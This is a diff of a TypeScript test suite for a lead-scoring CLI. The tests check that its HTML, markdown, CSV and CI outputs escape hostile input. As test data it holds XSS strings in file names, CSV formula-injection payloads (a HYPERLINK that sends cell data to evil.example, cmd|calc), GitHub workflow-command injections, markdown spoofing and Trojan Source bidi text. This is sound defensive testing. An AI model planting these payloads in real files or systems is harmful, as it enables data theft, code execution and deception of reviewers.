@@ -62,7 +62,8 @@ function markdownProblems(markdown: string, ownDetails = 0): string[] {
   if (/<a\s[^>]*href="(?![a-z0-9-]+\.md(#[a-z0-9-]*)?")/i.test(html)) problems.push("link");
   if (/<script|<iframe|<svg|<[a-z][^>]*\son[a-z]+\s*=/i.test(html)) problems.push("script or event handler");
   if ((html.match(/<\/details>/g) ?? []).length !== ownDetails) problems.push("</details> from data");
-  if (/<!--(?! leadrules-impact-report -->)/.test(html.replace(/^<!-- generated from [^\n]*-->\n/, ""))) problems.push("HTML comment from data");
+  if (/<!--(?! leadrules-impact-report -->)/.test(html.replace(/^<!-- generated from [^\n]*-->\n/, "")))
+    problems.push("HTML comment from data");
   // What GitHub shows as text: no comments, no code (mentions are not made there, and code is shown as is).
   const shown = html.replace(/<!--[\s\S]*?-->/g, "").replace(/<pre>[\s\S]*?<\/pre>|<code>[\s\S]*?<\/code>/g, "");
   if (/(^|[^A-Za-z0-9_])@(octocat|acme)/.test(shown)) problems.push("mention");
@@ -73,7 +74,9 @@ function markdownProblems(markdown: string, ownDetails = 0): string[] {
 /** CSV cells a spreadsheet would run as a formula; `numericColumns` hold numbers leadrules computed. */
 function formulaCells(csv: string, numericColumns: readonly string[] = []): string[] {
   const [header, ...rows] = parseCsv(csv, { relax_column_count: true }) as string[][];
-  return rows.flatMap((row) => row.filter((cell, i) => /^[=+\-@\t\r]/.test(cell) && !(numericColumns.includes(header![i]!) && /^-?\d+(\.\d+)?$/.test(cell))));
+  return rows.flatMap((row) =>
+    row.filter((cell, i) => /^[=+\-@\t\r]/.test(cell) && !(numericColumns.includes(header![i]!) && /^-?\d+(\.\d+)?$/.test(cell))),
+  );
 }
 
 /** HTML a browser would run: script from data, event handlers, javascript: URLs, a comment closed early. */
@@ -94,7 +97,10 @@ function htmlProblems(file: string, html: string): string[] {
 describe("2. stored XSS in the auditors' site through policy file names", () => {
   let browser: Browser;
   beforeAll(async () => {
-    browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"] });
+    browser = await chromium.launch({
+      executablePath: "/usr/bin/chromium",
+      args: ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
+    });
   });
   afterAll(async () => browser?.close());
 
@@ -104,7 +110,8 @@ describe("2. stored XSS in the auditors' site through policy file names", () => 
     const policies = path.join(root, "x*", "window.pwned=3;", "*y");
     mkdirSync(policies, { recursive: true });
     const source = policyFolder([], bundledPolicies);
-    for (const name of readdirSync(source)) if (name.endsWith(".yaml")) writeFileSync(path.join(policies, name), readFileSync(path.join(source, name)));
+    for (const name of readdirSync(source))
+      if (name.endsWith(".yaml")) writeFileSync(path.join(policies, name), readFileSync(path.join(source, name)));
     renameSync(path.join(policies, "scoring-model.yaml"), path.join(policies, "<img src=x onerror=window.pwned=1>.yaml"));
     renameSync(path.join(policies, "routing.yaml"), path.join(policies, "r\n--><img src=x onerror=window.pwned=2>.yaml"));
     const out = makeTempDir();
@@ -134,7 +141,12 @@ describe("2. stored XSS in the auditors' site through policy file names", () => 
 // ---- 6. CSV for spreadsheets ---------------------------------------------------------------
 
 // Lead values are trimmed when read, so a leading TAB or CR reaches the CSV only from elsewhere (see the unit case).
-const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];
+const formulas = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+];
 
 describe("6. CSV formula injection", () => {
   it("simulate --format csv prefixes a ' to text cells that start a formula (TAB and CR too); --raw-csv writes them as read", async () => {
@@ -147,7 +159,19 @@ describe("6. CSV formula injection", () => {
     const dimensions = specOf(validSet(), "ScoringModel")!.dimensions.map((d) => d.id);
     expect(formulaCells(run.stdout, [...dimensions, "total"])).toEqual([]);
 
-    const raw = await runCli(["simulate", "--policies", bundledPolicies, "--leads", file, "--as-of", asOf, "--format", "csv", "--raw-csv", "--quiet"]);
+    const raw = await runCli([
+      "simulate",
+      "--policies",
+      bundledPolicies,
+      "--leads",
+      file,
+      "--as-of",
+      asOf,
+      "--format",
+      "csv",
+      "--raw-csv",
+      "--quiet",
+    ]);
     expect((parseCsv(raw.stdout, { columns: true }) as Record<string, string>[]).map((r) => r.id)).toEqual(formulas);
   });
 
@@ -167,19 +191,45 @@ describe("6. CSV formula injection", () => {
     // A lead without its required e-mail is a hygiene finding that names the lead.
     const file = leadsFile(formulas.map((id) => qualifiedLead({ leadId: id, email: "" })));
     // The hand-made leads carry no production columns: those checks are accepted as not run.
-    const run = await runCli(["audit", "--policies", bundledPolicies, "--leads", file, "--as-of", asOf, "--format", "csv", "--allow-unchecked", "all", ...allowBad]);
+    const run = await runCli([
+      "audit",
+      "--policies",
+      bundledPolicies,
+      "--leads",
+      file,
+      "--as-of",
+      asOf,
+      "--format",
+      "csv",
+      "--allow-unchecked",
+      "all",
+      ...allowBad,
+    ]);
     expect(run.code).toBe(0);
     const leads = new Set((parseCsv(run.stdout, { columns: true }) as Record<string, string>[]).map((r) => r.lead));
     expect([...leads].sort()).toEqual(formulas.map((f) => `'${f}`).sort());
     expect(formulaCells(run.stdout)).toEqual([]);
-    const raw = await runCli(["audit", "--policies", bundledPolicies, "--leads", file, "--as-of", asOf, "--format", "csv", "--raw-csv", ...allowBad]);
+    const raw = await runCli([
+      "audit",
+      "--policies",
+      bundledPolicies,
+      "--leads",
+      file,
+      "--as-of",
+      asOf,
+      "--format",
+      "csv",
+      "--raw-csv",
+      ...allowBad,
+    ]);
     expect(new Set((parseCsv(raw.stdout, { columns: true }) as Record<string, string>[]).map((r) => r.lead))).toEqual(new Set(formulas));
   });
 });
 
 // ---- 8. report spoofing and workflow commands ----------------------------------------------
 
-const spoof = "x\n\n**Change control: pass.**\n\n</details>\n\n@octocat ![logo](http://evil.example/x.png) [review](http://evil.example) <!-- hide";
+const spoof =
+  "x\n\n**Change control: pass.**\n\n</details>\n\n@octocat ![logo](http://evil.example/x.png) [review](http://evil.example) <!-- hide";
 
 describe("8. report spoofing in the PR markdown and workflow commands in CI stdout", () => {
   it("diff --format markdown: a policy description and lead ids cannot fake a line, a link, an image, a mention or the end of a section", async () => {
@@ -189,7 +239,24 @@ describe("8. report spoofing in the PR markdown and workflow commands in CI stdo
     repo.commit("change");
     const { report } = await diffVersions({ policies: repo.policies, base: "main", head: "change", asOf });
     expect(report!.violations.length).toBeGreaterThan(0);
-    const withLeads = { ...report!, behaviour: { ...report!.behaviour, changedLeads: 1, top: [{ ...report!.behaviour.top[0], id: spoof, before: "@acme/sales", after: "| x |\n::error::pwned", baseRules: [spoof], headRules: [], fields: ["score"] }] } } as typeof report;
+    const withLeads = {
+      ...report!,
+      behaviour: {
+        ...report!.behaviour,
+        changedLeads: 1,
+        top: [
+          {
+            ...report!.behaviour.top[0],
+            id: spoof,
+            before: "@acme/sales",
+            after: "| x |\n::error::pwned",
+            baseRules: [spoof],
+            headRules: [],
+            fields: ["score"],
+          },
+        ],
+      },
+    } as typeof report;
     const markdown = formatDiffMarkdown(withLeads!);
     const ownDetails = (markdown.match(/^<details>$/gm) ?? []).length;
     expect(markdownProblems(markdown, ownDetails)).toEqual([]);
@@ -200,11 +267,36 @@ describe("8. report spoofing in the PR markdown and workflow commands in CI stdo
 
   it("audit --format markdown and simulate --format markdown: lead ids stay text in their table cell", async () => {
     const leads = [qualifiedLead({ leadId: spoof, email: "" }), qualifiedLead({ leadId: "| a | b |\n# Heading", email: "" })];
-    const audit = await runCli(["audit", "--policies", bundledPolicies, "--leads", leadsFile(leads), "--as-of", asOf, "--format", "markdown", "--allow-unchecked", "all", ...allowBad]);
+    const audit = await runCli([
+      "audit",
+      "--policies",
+      bundledPolicies,
+      "--leads",
+      leadsFile(leads),
+      "--as-of",
+      asOf,
+      "--format",
+      "markdown",
+      "--allow-unchecked",
+      "all",
+      ...allowBad,
+    ]);
     expect(audit.code, audit.stderr).toBe(0);
     expect(markdownProblems(audit.stdout)).toEqual([]);
     expect(audit.stdout).not.toMatch(/^# Heading/m);
-    const simulate = await runCli(["simulate", "--policies", bundledPolicies, "--leads", leadsFile(leads), "--as-of", asOf, "--format", "markdown", "--quiet", ...allowBad]);
+    const simulate = await runCli([
+      "simulate",
+      "--policies",
+      bundledPolicies,
+      "--leads",
+      leadsFile(leads),
+      "--as-of",
+      asOf,
+      "--format",
+      "markdown",
+      "--quiet",
+      ...allowBad,
+    ]);
     expect(simulate.code, simulate.stderr).toBe(0);
     expect(markdownProblems(simulate.stdout)).toEqual([]);
     // Every row of the table has as many cells as its header (which ends with the `flagged` column).
@@ -219,12 +311,37 @@ describe("8. report spoofing in the PR markdown and workflow commands in CI stdo
     const ids = ["a\n::error::pwned", "b\r  ::add-mask::secret", "c\r\n\t::stop-commands::tok", "d ##[error]pwned", "::warning::e"];
     const file = leadsFile(ids.map((id) => qualifiedLead({ leadId: id, email: "" })));
     for (const format of ["table", "csv", "markdown", "ndjson", "json"]) {
-      const run = await runCli(["simulate", "--policies", bundledPolicies, "--leads", file, "--as-of", asOf, "--format", format, "--quiet", ...allowBad]);
+      const run = await runCli([
+        "simulate",
+        "--policies",
+        bundledPolicies,
+        "--leads",
+        file,
+        "--as-of",
+        asOf,
+        "--format",
+        format,
+        "--quiet",
+        ...allowBad,
+      ]);
       expect(run.code, format).toBe(0);
       expect(workflowCommandLines(run.stdout), format).toEqual([]);
     }
     for (const format of ["text", "markdown", "csv"]) {
-      const run = await runCli(["audit", "--policies", bundledPolicies, "--leads", file, "--as-of", asOf, "--format", format, "--allow-unchecked", "all", ...allowBad]);
+      const run = await runCli([
+        "audit",
+        "--policies",
+        bundledPolicies,
+        "--leads",
+        file,
+        "--as-of",
+        asOf,
+        "--format",
+        format,
+        "--allow-unchecked",
+        "all",
+        ...allowBad,
+      ]);
       expect(run.code, format).toBe(0);
       expect(workflowCommandLines(run.stdout + run.stderr), format).toEqual([]);
     }
@@ -243,7 +360,13 @@ describe("8. report spoofing in the PR markdown and workflow commands in CI stdo
     expect(run.code).toBe(1);
     const lines = run.stdout.trimEnd().split("\n");
     expect(lines.length).toBeGreaterThan(0);
-    expect(lines.every((l) => /^::(error|warning|notice) file=[^,:\n]*s%2Cc%3Ao%25re%0A%3A%3Aerror%3A%3Ax\.yaml,/.test(l) || /^::(error|warning|notice) (?!file=)/.test(l))).toBe(true);
+    expect(
+      lines.every(
+        (l) =>
+          /^::(error|warning|notice) file=[^,:\n]*s%2Cc%3Ao%25re%0A%3A%3Aerror%3A%3Ax\.yaml,/.test(l) ||
+          /^::(error|warning|notice) (?!file=)/.test(l),
+      ),
+    ).toBe(true);
   });
 });
 
@@ -270,7 +393,18 @@ describe("bidirectional controls reach no output raw (Trojan Source)", () => {
     repo.edit("scoring-model.yaml", "description: VPs own the data platform budget.", `description: ${JSON.stringify(trojan)}`);
     repo.commit("change");
     const { report } = await diffVersions({ policies: repo.policies, base: "main", head: "change", asOf });
-    const withLeads = { ...report!, leads: { ...report!.leads, file: trojan }, violations: [{ policy: trojan, file: trojan, message: trojan }], behaviour: { ...report!.behaviour, changedLeads: 1, top: [{ ...report!.behaviour.top[0], id: trojan, before: trojan, after: "b", baseRules: [trojan], headRules: [], fields: ["score"] }] } } as typeof report;
+    const withLeads = {
+      ...report!,
+      leads: { ...report!.leads, file: trojan },
+      violations: [{ policy: trojan, file: trojan, message: trojan }],
+      behaviour: {
+        ...report!.behaviour,
+        changedLeads: 1,
+        top: [
+          { ...report!.behaviour.top[0], id: trojan, before: trojan, after: "b", baseRules: [trojan], headRules: [], fields: ["score"] },
+        ],
+      },
+    } as typeof report;
     const markdown = formatDiffMarkdown(withLeads!);
     expect(markdown.match(rawBidi)).toBeNull();
     expect(markdown).toContain("\\u202E");
@@ -280,20 +414,58 @@ describe("bidirectional controls reach no output raw (Trojan Source)", () => {
   it("simulate and audit in every format, on stdout and stderr; JSON still holds the exact id", async () => {
     // The second lead's bad date is reported on stderr with its value (aggregated by column and value), and
     // the lead is still decided, its createdAt read as empty.
-    const file = leadsFile([qualifiedLead({ leadId: trojan, company: trojan, email: "" }), qualifiedLead({ leadId: "bad", createdAt: `2026-13-01${trojan}` })]);
+    const file = leadsFile([
+      qualifiedLead({ leadId: trojan, company: trojan, email: "" }),
+      qualifiedLead({ leadId: "bad", createdAt: `2026-13-01${trojan}` }),
+    ]);
     for (const format of ["table", "csv", "markdown", "ndjson", "json"]) {
-      const run = await runCli(["simulate", "--policies", bundledPolicies, "--leads", file, "--as-of", asOf, "--format", format, ...allowBad]);
+      const run = await runCli([
+        "simulate",
+        "--policies",
+        bundledPolicies,
+        "--leads",
+        file,
+        "--as-of",
+        asOf,
+        "--format",
+        format,
+        ...allowBad,
+      ]);
       expect(run.code, format).toBe(0);
       expect(run.stderr, format).toContain('column "createdAt": "2026-13-01x\\u202Essap');
       expect((run.stdout + run.stderr).match(rawBidi), format).toBeNull();
       if (format === "json") expect((JSON.parse(run.stdout) as { rows: { id: string }[] }).rows.map((r) => r.id)).toEqual([trojan, "bad"]);
     }
     for (const format of ["text", "markdown", "csv", "json"]) {
-      const run = await runCli(["audit", "--policies", bundledPolicies, "--leads", file, "--as-of", asOf, "--format", format, "--allow-unchecked", "all", ...allowBad]);
+      const run = await runCli([
+        "audit",
+        "--policies",
+        bundledPolicies,
+        "--leads",
+        file,
+        "--as-of",
+        asOf,
+        "--format",
+        format,
+        "--allow-unchecked",
+        "all",
+        ...allowBad,
+      ]);
       expect(run.code, format).toBe(0);
       expect((run.stdout + run.stderr).match(rawBidi), format).toBeNull();
     }
-    const explain = await runCli(["explain", "--policies", bundledPolicies, "--leads", file, "--lead", trojan, "--as-of", asOf, ...allowBad]);
+    const explain = await runCli([
+      "explain",
+      "--policies",
+      bundledPolicies,
+      "--leads",
+      file,
+      "--lead",
+      trojan,
+      "--as-of",
+      asOf,
+      ...allowBad,
+    ]);
     expect(explain.code).toBe(0);
     expect(explain.stdout.match(rawBidi)).toBeNull();
     expect(csvRows([[trojan]]).match(rawBidi)).toBeNull();
@@ -335,7 +507,10 @@ describe("text and table output keep one lead per line", () => {
   it("simulate table, audit text and explain: a lead id with a newline or a control character stays on its line, shown as an escape", async () => {
     const leads = (ids: string[]) => leadsFile(ids.map((id) => qualifiedLead({ leadId: id, email: "" })));
     const [hostileFile, plainFile] = [leads(breaking), leads(plainIds)];
-    for (const args of [["simulate", "--quiet"], ["audit", "--format", "text", "--allow-unchecked", "all"]]) {
+    for (const args of [
+      ["simulate", "--quiet"],
+      ["audit", "--format", "text", "--allow-unchecked", "all"],
+    ]) {
       const run = await runCli([...args, "--policies", bundledPolicies, "--leads", hostileFile, "--as-of", asOf, ...allowBad]);
       const plain = await runCli([...args, "--policies", bundledPolicies, "--leads", plainFile, "--as-of", asOf, ...allowBad]);
       expect([run.code, plain.code], args[0]).toEqual([0, 0]);
@@ -344,11 +519,24 @@ describe("text and table output keep one lead per line", () => {
       expect(run.stdout, args[0]).toContain("x\\n::error::NL");
       expect(run.stdout, args[0]).toContain("esc\\x1B[2J");
     }
-    const table = (await runCli(["simulate", "--quiet", "--policies", bundledPolicies, "--leads", hostileFile, "--as-of", asOf, ...allowBad])).stdout.split("\n");
+    const table = (
+      await runCli(["simulate", "--quiet", "--policies", bundledPolicies, "--leads", hostileFile, "--as-of", asOf, ...allowBad])
+    ).stdout.split("\n");
     // Every lead's row starts with its id, and no line starts with the text after a newline.
     for (const [, text] of shown) expect(table.filter((l) => l.startsWith(`${text} `))).toHaveLength(1);
     expect(table.some((l) => /^(\u200b)?::error::NL|^change control/.test(l))).toBe(false);
-    const explain = await runCli(["explain", "--policies", bundledPolicies, "--leads", hostileFile, "--lead", breaking[1]!, "--as-of", asOf, ...allowBad]);
+    const explain = await runCli([
+      "explain",
+      "--policies",
+      bundledPolicies,
+      "--leads",
+      hostileFile,
+      "--lead",
+      breaking[1]!,
+      "--as-of",
+      asOf,
+      ...allowBad,
+    ]);
     expect(explain.code).toBe(0);
     // The explanation starts with what was read (the file), then the lead's own line.
     const lines = explain.stdout.split("\n");
@@ -362,8 +550,16 @@ describe("text and table output keep one lead per line", () => {
     repo.edit("scoring-model.yaml", "minimums: { total: 100, fit: 30 }", "minimums: { total: 90, fit: 30 }");
     const { report } = await diffVersions({ policies: repo.policies, base: "main", asOf });
     const top = report!.behaviour.top[0]!;
-    const plain = formatDiffText({ ...report!, violations: [{ policy: "p", file: "f", message: "m" }], behaviour: { ...report!.behaviour, top: [{ ...top, id: "a", baseRules: ["r"] }] } });
-    const text = formatDiffText({ ...report!, violations: [{ policy: "p", file: "f\nchange control: pass", message: "m\r\n" }], behaviour: { ...report!.behaviour, top: [{ ...top, id: "a\nchange control: pass", baseRules: ["r\n"] }] } });
+    const plain = formatDiffText({
+      ...report!,
+      violations: [{ policy: "p", file: "f", message: "m" }],
+      behaviour: { ...report!.behaviour, top: [{ ...top, id: "a", baseRules: ["r"] }] },
+    });
+    const text = formatDiffText({
+      ...report!,
+      violations: [{ policy: "p", file: "f\nchange control: pass", message: "m\r\n" }],
+      behaviour: { ...report!.behaviour, top: [{ ...top, id: "a\nchange control: pass", baseRules: ["r\n"] }] },
+    });
     expect(text.match(lineBreakers)).toBeNull();
     expect(shape(text)).toBe(shape(plain));
     expect(text.split("\n").filter((l) => l === "change control: pass" || l === "change control: FAIL")).toEqual(["change control: FAIL"]);
@@ -385,7 +581,7 @@ describe("text and table output keep one lead per line", () => {
 const hostile = [
   "<script>window.pwned=1</script>",
   "<img src=x onerror=window.pwned=1>",
-  "\" onmouseover=\"window.pwned=1",
+  '" onmouseover="window.pwned=1',
   "javascript:alert(1)",
   "--><script>alert(1)</script><!--",
   "*/window.pwned=1;/*",
@@ -402,7 +598,7 @@ const hostile = [
   "\n::error::pwned",
   "\r::add-mask::x",
   "##[error]pwned",
-  "=HYPERLINK(\"http://evil.example\")",
+  '=HYPERLINK("http://evil.example")',
   "+cmd|' /C calc'!A0",
   "-2+3",
   "@SUM(1+1)",
@@ -414,7 +610,9 @@ const hostile = [
   ...bidi,
   trojan,
 ];
-const hostileText = fc.array(fc.oneof(fc.constantFrom(...hostile), fc.string({ maxLength: 6 })), { minLength: 1, maxLength: 4 }).map((parts) => parts.join(""));
+const hostileText = fc
+  .array(fc.oneof(fc.constantFrom(...hostile), fc.string({ maxLength: 6 })), { minLength: 1, maxLength: 4 })
+  .map((parts) => parts.join(""));
 /** File names cannot hold `/` or NUL. */
 const hostileFileName = hostileText.map((s) => s.replace(/[/\0]/g, "_") + ".yaml");
 
@@ -423,7 +621,8 @@ function hostileSet(base: PolicySet, files: string[], description: string): Poli
     base.policies.map((p, i) => {
       const document = structuredClone(p.document);
       document.metadata.description = description;
-      if (document.kind === "ScoringModel") for (const rule of (document.spec as { rules: { description: string }[] }).rules) rule.description = description;
+      if (document.kind === "ScoringModel")
+        for (const rule of (document.spec as { rules: { description: string }[] }).rules) rule.description = description;
       return { ...p, file: `policies/${files[i % files.length]!}`, document };
     }),
   );
@@ -460,10 +659,20 @@ describe("property: no unescaped payload in the site, the PR markdown, the CSV o
           ...report!,
           base: { ...report!.base, ref: name },
           leads: { ...report!.leads, file },
-          policies: report!.policies.map((p) => ({ ...p, policy: name, file, items: [{ item: values[0]!, change: "changed", details: values }] })),
+          policies: report!.policies.map((p) => ({
+            ...p,
+            policy: name,
+            file,
+            items: [{ item: values[0]!, change: "changed", details: values }],
+          })),
           violations: [{ file, message: values.join(" ") }],
           textDiffs: [{ file, patch: values.join("\n") }],
-          behaviour: { ...report!.behaviour, top: report!.behaviour.top.slice(0, 2).map((l) => ({ ...l, id: values[0]!, before: name, after: file, baseRules: values, headRules: values })) },
+          behaviour: {
+            ...report!.behaviour,
+            top: report!.behaviour.top
+              .slice(0, 2)
+              .map((l) => ({ ...l, id: values[0]!, before: name, after: file, baseRules: values, headRules: values })),
+          },
         } as typeof report;
         const markdown = formatDiffMarkdown(hostileReport!);
         expect(markdownProblems(markdown, (markdown.match(/^<details>$/gm) ?? []).length)).toEqual([]);
@@ -492,7 +701,11 @@ describe("property: no unescaped payload in the site, the PR markdown, the CSV o
         expect(formatAuditMarkdown(report).match(rawBidi)).toBeNull();
         // stdout as the CLI prints it: through main's guard.
         const file = leadsFile(leads.map((l) => l.record.values));
-        for (const args of [["simulate", "--format", "table", "--quiet"], ["audit", "--format", "text"], ["audit", "--format", "csv"]]) {
+        for (const args of [
+          ["simulate", "--format", "table", "--quiet"],
+          ["audit", "--format", "text"],
+          ["audit", "--format", "csv"],
+        ]) {
           const run = await runCli([...args, "--policies", bundledPolicies, "--leads", file, "--as-of", asOf]);
           expect(workflowCommandLines(run.stdout + run.stderr), args.join(" ")).toEqual([]);
           expect((run.stdout + run.stderr).match(rawBidi), args.join(" ")).toBeNull();
